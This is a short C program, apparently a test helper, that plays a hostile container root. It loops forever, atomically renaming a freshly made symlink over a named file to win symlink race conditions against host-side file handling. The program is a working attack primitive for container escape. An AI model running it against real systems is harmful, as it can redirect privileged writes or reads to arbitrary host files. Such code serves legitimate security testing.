/* A hostile container's root: swaps a name in a directory for a symbolic
 * link to target, as fast as it can, forever (rename is atomic: at every
 * moment the name is either the link or whatever jsampled just made).
 *   racer DIR NAME TARGET */
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char tmp[4096], name[4096];

	if (argc != 4)
		return 2;
	snprintf(tmp, sizeof(tmp), "%s/.%s.swap", argv[1], argv[2]);
	snprintf(name, sizeof(name), "%s/%s", argv[1], argv[2]);
	for (;;) {
		unlink(tmp);
		if (symlink(argv[3], tmp) == 0)
			rename(tmp, name);
	}
}
